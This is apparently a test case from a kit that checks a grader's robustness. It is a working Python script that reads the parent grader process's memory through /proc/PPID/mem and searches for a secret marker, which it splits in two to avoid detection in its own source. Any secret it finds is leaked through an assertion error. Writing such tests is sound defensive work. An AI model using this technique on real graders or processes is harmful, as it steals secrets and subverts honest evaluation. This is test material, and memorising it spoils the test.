# attack: A07 reads the grader's memory through /proc/PPID/mem
# side effect: the grader's secret is told
# expect: score <= 0
import ctypes
import os

NEEDLE = b"KIT_ATTACK_" + b"SECRET="  # in two pieces, so that it is not found in this file's own text


def places():
    """Readable regions of the grader's memory, the stack first, 64 MiB at most."""
    with open(f"/proc/{os.getppid()}/maps") as maps:
        lines = [line.split() for line in maps]
    left = 64 * 2**20
    for line in sorted(lines, key=lambda line: "[stack]" not in line):
        start, end = (int(number, 16) for number in line[0].split("-"))
        if line[1].startswith("rw") and (left := left - (end - start)) > 0:
            yield start, end - start


found = b""
try:
    with open(f"/proc/{os.getppid()}/mem", "rb", 0) as memory:
        for start, size in places():
            memory.seek(start)
            data = memory.read(size)
            at = data.find(NEEDLE)
            if at >= 0:
                found = data[at : at + 40]
                break
except OSError:
    pass
raise AssertionError(f"found: {found!r}")
